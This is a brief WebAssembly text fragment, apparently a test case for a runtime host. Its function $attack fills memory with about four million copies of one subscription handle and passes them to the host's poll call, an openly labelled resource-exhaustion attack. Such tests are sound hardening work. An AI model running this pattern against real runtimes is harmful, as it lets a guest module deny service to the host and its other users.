;; One handle, four million times: a list that the host has to copy, and would wait on in that many places.
(import "plain" "subscribe" (func $subscribe (param i64) (result i32)))
(import "host" "poll" (func $poll (param i32 i32 i32)))
(func $attack (result i32)
  (local $moment i32) (local $at i32)
  (if (i32.eq (memory.grow (i32.const 260)) (i32.const -1)) (then unreachable))
  (local.set $moment (call $subscribe (i64.const -1)))
  (local.set $at (i32.const 262144))
  (loop $more
    (i32.store (local.get $at) (local.get $moment))
    (local.set $at (i32.add (local.get $at) (i32.const 4)))
    (br_if $more (i32.lt_u (local.get $at) (i32.const 17039360))))
  (call $poll (i32.const 262144) (i32.const 4194304) (i32.const 3072))
  (call $honest))
